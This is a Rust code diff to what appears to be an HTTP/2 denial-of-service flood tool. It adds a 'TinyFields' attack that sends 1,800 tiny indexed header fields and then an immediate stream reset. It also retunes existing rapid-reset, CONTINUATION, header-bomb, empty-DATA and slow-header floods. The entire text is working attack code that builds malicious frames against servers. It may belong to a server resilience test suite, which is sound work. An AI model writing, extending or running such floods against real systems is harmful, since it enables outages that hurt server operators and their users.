@@ -25,6 +25,8 @@ pub enum Flood {
     Continuation,
     /// Fields of one byte that stand for thousands (CVE-2026-47774).
     HeaderBomb,
+    /// As many fields as a byte each can be, of calls that are taken back at once.
+    TinyFields,
     /// Frames of data without any (RUSTSEC-2026-0258).
     EmptyData,
     /// Heads that never end, a byte at a time.
@@ -47,11 +49,12 @@ const AT_ONCE: usize = 4;
 
 impl Flood {
     /// All of them.
-    pub const ALL: [Self; 7] = [
+    pub const ALL: [Self; 8] = [
         Self::RapidReset,
         Self::MadeReset,
         Self::Continuation,
         Self::HeaderBomb,
+        Self::TinyFields,
         Self::EmptyData,
         Self::SlowHeads,
         Self::Idle,
@@ -64,11 +67,12 @@ impl Flood {
     /// When nobody listens there any more.
     pub async fn run(self, address: SocketAddr) -> io::Result<Vec<TcpStream>> {
         match self {
-            // 100,000 frames or 64 MiB each.
+            // 100,000 frames or 64 MiB each, but where the sender is made to wait.
             Self::RapidReset => self.frames(address, 50, 2_000).await,
             Self::MadeReset => self.frames(address, 50, 2_000).await,
             Self::Continuation => self.frames(address, 16, 256).await,
-            Self::HeaderBomb => self.frames(address, 16, 100).await,
+            Self::HeaderBomb => self.frames(address, 16, 25).await,
+            Self::TinyFields => self.frames(address, 16, 50).await,
             Self::EmptyData => self.frames(address, 10, 10_000).await,
             Self::SlowHeads => connections(address, 1_000, b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ").await,
             Self::Idle => connections(address, 5_000, b"GET / HTTP/1.1\r\nHost: a\r\n\r\n").await,
@@ -126,11 +130,9 @@ impl Flood {
         let stream = 2 * n + 1;
         let fields = literals(&[&GET[..3], &[(":path", PATH)]].concat());
         let opened = |flags| frame(kind::HEADERS, flags, stream, &fields);
+        let reset = || frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
         match self {
-            Self::RapidReset => {
-                let reset = frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
-                [opened(END_HEADERS | END_STREAM), reset].concat()
-            }
+            Self::RapidReset => [opened(END_HEADERS | END_STREAM), reset()].concat(),
             Self::MadeReset => {
                 let nothing = frame(kind::WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
                 [opened(END_HEADERS), nothing].concat()
@@ -144,6 +146,12 @@ impl Flood {
                 let bomb = indexed_literal("x-bomb", &"b".repeat(3_900));
                 let block = [fields, bomb, vec![NEWEST; 12_000]].concat();
                 frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block)
+            }
+            Self::TinyFields => {
+                let tiny = indexed_literal("a", "");
+                let block = [fields, tiny, vec![NEWEST; 1_800]].concat();
+                let opened = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
+                [opened, reset()].concat()
             }
             Self::EmptyData if n == 0 => opened(END_HEADERS),
             Self::EmptyData => frame(kind::DATA, 0, 1, &[]),
